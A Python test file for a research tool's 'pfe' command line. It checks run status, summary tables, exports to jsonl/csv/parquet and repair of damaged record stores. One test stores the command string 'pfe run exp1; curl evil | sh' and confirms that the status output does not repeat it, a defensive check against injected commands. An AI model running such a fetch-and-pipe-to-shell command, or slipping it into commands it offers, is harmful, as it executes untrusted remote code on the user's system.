"""Commands that read a run: ``pfe status``, ``summary``, ``export`` and ``repair``."""

import csv
import json
import os
import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from statistics import mean

import duckdb
import pytest

from lab_records import EXP1, records_of, studies_of
from prime_models import modulus
from primefourier import PAPER_BASIS, lab
from primefourier.lab.config import prime_parts
from primefourier.lab.store import STORE_NAME, write_store
from primefourier.lab.sweep import Progress
from small_models import small_config

Pfe = Callable[..., tuple[int, str, str]]
CONFIGS = [small_config(epochs=1, seed=seed) for seed in range(2)]


def test_status_counts_models_and_shows_failures(pfe: Pfe, paper: Path) -> None:
    code, out, _ = pfe("status", str(paper))
    assert code == 0
    rows = [line.split() for line in out.splitlines()]
    assert ["study", "models", "measured", "failed", "waiting"] in rows
    assert ["exp1", "350", "346", "2", "2"] in rows
    assert ["all", "750", "746", "2", "2"] in rows
    assert "a+b mod 3 r=100 |P|=4 seed=42 failed:\n  │ Traceback: out of luck\n" in out
    assert out.endswith("To continue, run the same command again.\n")
    data = json.loads(pfe("status", str(paper), "--json")[1])
    assert (data["planned"], data["done"], data["failed"]) == (750, 746, 2)
    assert data["studies"]["exp2"] == {"planned": 50, "done": 50, "failed": 0}
    assert (data["running"], data["writer"], len(data["failures"])) == (False, None, 2)
    assert data["commands"] == ["pfe reproduce --profile paper --out x"]


def test_status_without_a_folder_takes_the_newest_run(
    pfe: Pfe, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = pfe("status")
    assert (code, "there is no run here or in results/*; name its folder" in err) == (2, True)
    for name, age in (("old", 1), ("new", 2)):
        folder = tmp_path / "results" / name
        folder.mkdir(parents=True)
        with write_store(folder) as store:
            store.begin(studies_of(EXP1[:age]), "pfe run")
        os.utime(folder / STORE_NAME, (age, age))
    out = pfe("status")[1]
    assert out.startswith("results/new, the newest run:\n\n")
    assert "results/new has no complete configuration ablated by 'zero' yet" in pfe("summary")[2]
    assert json.loads(pfe("status", "--json")[1])["folder"] == "results/new"


def test_status_shows_a_running_sweep_and_how_to_continue_a_stopped_one(
    pfe: Pfe, tmp_path: Path
) -> None:
    seen = []

    def stop(progress: Progress) -> None:
        if progress.done == 1:
            seen.append(json.loads(pfe("status", str(folder), "--json")[1]))
            seen.append(pfe("status", str(folder))[1])
            raise KeyboardInterrupt

    configs = [small_config(modulus=p, epochs=1) for p in (3, 5, 7)]
    folder, command = tmp_path / "it's mine", "pfe run exp1; curl evil | sh"
    studies = studies_of(configs)
    assert lab.run(studies, folder, workers=0, command=command, on_progress=stop).interrupted
    data, text = seen
    assert (data["planned"], data["done"], data["running"]) == (3, 1, True)
    assert "Running: process" in text
    code, out, _ = pfe("status", str(folder))
    assert (code, "curl" in out) == (0, False), "what a store says is no advice"
    assert out.endswith("\nNot running. To continue, run the same command again.\n")
    assert not lab.run(studies, folder, workers=0, command=command).interrupted
    assert "All measured." in pfe("status", str(folder))[1]


@pytest.fixture(scope="module")
def beyond(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A study of one's own: three axes, two seeds, an ablation more, and larger test integers."""
    folder = tmp_path_factory.mktemp("sweeps") / "beyond"
    configs = [
        replace(
            small_config(modulus=n, depth=depth, epochs=e, seed=s, beyond=(2000, 10**18)),
            ablations=("zero", "mean"),
        )
        for n in (5, 7)
        for depth in (1, 2)
        for e in (1, 2)
        for s in (1, 2)
    ]
    lab.run([lab.Study("mine", configs)], folder, workers=0)
    return folder


def test_a_summary_has_a_line_per_configuration_the_worst_first(
    pfe: Pfe, beyond: Path, small: Path
) -> None:
    code, out, _ = pfe("summary", str(beyond))
    assert code == 0
    title, head, _, *rows = [line.split() for line in out.splitlines()]
    assert title == ["mine,", "2", "seeds,", "rows", "3", "5", "7"]
    assert head == ["acc.", "rel.", "other", "2000", "10^18"]
    assert len({tuple(row[:3]) for row in rows[:8]}) == 8
    worst = [min(float(word) for word in (row[3], *row[6:])) for row in rows[:8]]
    assert worst == sorted(worst)
    run = lab.open(beyond)
    found = {tuple(row[:3]): row[3:] for row in rows[:8]}
    records = [
        record
        for record in run.records
        if (modulus(record.config), prime_parts(record.config)[0].depth) == (7, 2)
        and record.config.training.epochs == 2
    ]
    assert len(records) == 2
    accuracy, relevant, _, *ends = found["epochs=2", "modulus=7", "depth=2"]
    assert accuracy == f"{mean(record.measured.accuracy for record in records):.2f}"
    assert relevant == f"{mean(record.measured.drops[2] for record in records):.2f}"
    for text, end in zip(ends, ("2000", str(10**18)), strict=True):
        assert text == f"{mean(r.measured.accuracy_beyond[end] for r in records):.2f}"
    shown = pfe("summary", str(small))[1]
    assert "exp1, 1 seed, rows 3 5 7 11\n" in shown
    assert "|P|=4 r=100" in shown
    assert max(map(len, (out + shown).splitlines())) <= 80


def test_a_configuration_has_one_line_whatever_the_names_of_its_rows(
    pfe: Pfe, tmp_path: Path
) -> None:
    """Names that do not fit beside the numbers stand below, by a sign."""
    configs = [
        small_config(primes=PAPER_BASIS.primes[:n], beyond=(60, 10**6, 10**18), epochs=1)
        for n in (4, 16)
    ]
    lab.run([lab.Study("mine", configs)], tmp_path / "mine", workers=0)
    out = pfe("summary", str(tmp_path / "mine"))[1]
    assert "  2r  10^6  10^18  rows\n" in out, "in order of size, written alike"
    assert [line.split()[-1] for line in out.splitlines() if "#" in line[50:]] == ["#1", "#2"]
    words = " ".join(out.split())
    for n in (4, 16):
        assert re.search(rf"rows #[12]: {' '.join(map(str, PAPER_BASIS.primes[:n]))} ", words)
    assert max(map(len, out.splitlines())) <= 80


def test_a_summary_shows_the_worst_unless_all_are_requested(pfe: Pfe, tmp_path: Path) -> None:
    configs = [small_config(modulus=n, epochs=1) for n in range(2, 25)]
    (tmp_path / "mine").mkdir()
    with write_store(tmp_path / "mine") as store:
        store.begin([lab.Study("mine", configs)], "pfe run")
        for record in records_of(configs):
            store.add(record)
    lines = pfe("summary", str(tmp_path / "mine"))[1].splitlines()
    assert sum("modulus=" in line for line in lines) == 20
    assert "The 20 worst of 23 configurations; --all prints all." in lines
    everything = pfe("summary", str(tmp_path / "mine"), "--all")[1].splitlines()
    assert sum("modulus=" in line for line in everything) == 23
    assert not any("--all" in line for line in everything)


def test_summary_as_json_and_of_other_ablations(pfe: Pfe, beyond: Path, small: Path) -> None:
    run = lab.open(beyond)
    data = json.loads(pfe("summary", str(beyond), "--json")[1])
    assert data == json.loads(json.dumps(run.summary()))
    other = json.loads(pfe("summary", str(beyond), "--ablation", "mean", "--json")[1])
    assert other == json.loads(json.dumps(run.summary("mean")))
    assert [row["relevant_drop"] for row in other] != [row["relevant_drop"] for row in data]
    assert "(mean)" in pfe("summary", str(beyond), "--ablation", "mean")[1]
    code, out, err = pfe("summary", str(small), "--ablation", "mean")
    assert (code, out) == (2, "")
    assert f"{small} has no complete configuration ablated by 'mean' yet" in err
    assert json.loads(pfe("summary", str(small), "--ablation", "mean", "--json")[1]) == []


def test_rows_that_nothing_is_predicted_of_have_no_relevant_drop(pfe: Pfe, tmp_path: Path) -> None:
    config = replace(small_config(epochs=1), embedding=lab.LearnedTable(size=30))
    lab.run([config], tmp_path / "mine", workers=0)
    shown = [line.split() for line in pfe("summary", str(tmp_path / "mine"))[1].splitlines()]
    assert shown[0][0] == "mine,", "a list of models is named after its folder"
    found = lab.open(tmp_path / "mine").records[0].measured
    assert ["all", f"{found.accuracy:.2f}", "–", f"{found.drops[0]:.2f}"] in shown


def test_all_formats_hold_every_model(pfe: Pfe, small: Path, tmp_path: Path) -> None:
    for kind in ("jsonl", "csv", "parquet"):
        path = tmp_path / f"out.{kind}"
        code, out, _ = pfe("export", str(small), "--out", str(path))
        assert (code, out) == (0, f"Wrote 5 records to {path}.\n")
    rows = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    with (tmp_path / "out.csv").open(newline="") as file:
        table = list(csv.DictReader(file))
    assert [row["key"] for row in rows] == [row["key"] for row in table]
    assert [json.loads(row["drops"]) for row in table] == [row["drops"] for row in rows]
    with duckdb.connect() as database:
        found = database.read_parquet(str(tmp_path / "out.parquet"))
        assert [row[0] for row in found.project("drops").fetchall()] == [r["drops"] for r in rows]


def test_the_suffix_gives_the_format_unless_one_is_named(
    pfe: Pfe, small: Path, tmp_path: Path
) -> None:
    assert pfe("export", str(small))[1] == f"Wrote 5 records to {small}/models.jsonl.\n"
    assert pfe("export", str(small), "--format", "csv", "--out", str(tmp_path / "x.txt"))[0] == 0
    assert (tmp_path / "x.txt").read_text().startswith("key,status,study,model,")
    for words, message in (
        (["--out", str(tmp_path / "x.xlsx")], "format must be 'jsonl', 'csv' or 'parquet'"),
        (["--out", str(tmp_path / "no" / "x.jsonl")], "there is no folder"),
        (["--out", str(small / STORE_NAME)], "holds the records themselves; choose another"),
    ):
        code, _, err = pfe("export", str(small), *words)
        assert (code, message in err) == (2, True)


def test_a_damaged_store_is_repaired_and_the_damaged_file_kept(pfe: Pfe, tmp_path: Path) -> None:
    lab.run(CONFIGS, tmp_path, workers=0)
    intact = f"{tmp_path} is intact. 2 of 2 models are measured.\n"
    assert pfe("repair", str(tmp_path)) == (0, intact, "")
    whole = (tmp_path / STORE_NAME).read_bytes()
    (tmp_path / STORE_NAME).write_bytes(whole + b"nonsense" * 1000)
    code, _, err = pfe("status", str(tmp_path))
    assert code == 1
    assert f"line 7, it differs from what was written; pfe repair {tmp_path} keeps all" in err
    code, out, _ = pfe("repair", str(tmp_path))
    assert code == 0
    assert f"the damaged file is kept as {STORE_NAME}.damaged-" in out
    assert (tmp_path / STORE_NAME).read_bytes() == whole
    assert pfe("status", str(tmp_path))[0] == 0
    (tmp_path / STORE_NAME).write_bytes(b'"seed":3'.join(whole.rsplit(b'"seed":1', 1)))
    out = pfe("repair", str(tmp_path))[1]
    assert "of records.jsonl was damaged: it differs from what was written.\n" in out
    assert out.endswith("To train the others, run the same command again.\n")
